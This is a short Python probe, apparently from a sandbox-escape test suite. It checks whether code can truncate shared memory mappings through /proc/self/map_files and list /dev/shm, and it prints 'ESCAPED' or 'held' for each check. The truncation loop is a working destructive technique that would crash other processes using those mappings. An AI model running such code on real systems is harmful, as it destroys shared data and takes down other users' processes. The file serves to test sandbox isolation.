# technique: opens and cuts shared mappings by /proc/self/map_files, so that others who touch them die of SIGBUS
# source: proc_pid_map_files(5)
# verdict: WA
# invariant: mappings cannot be opened as files
# without: seccomp capabilities
import os

try:
    for name in os.listdir("/proc/self/map_files"):
        try:
            os.truncate(f"/proc/self/map_files/{name}", 0)
            print("ESCAPED cut", name)
        except OSError:
            pass
except OSError as refused:
    print("held", refused)
for name in os.listdir("/dev/shm"):
    print("ESCAPED there is a file", name)
print("held")
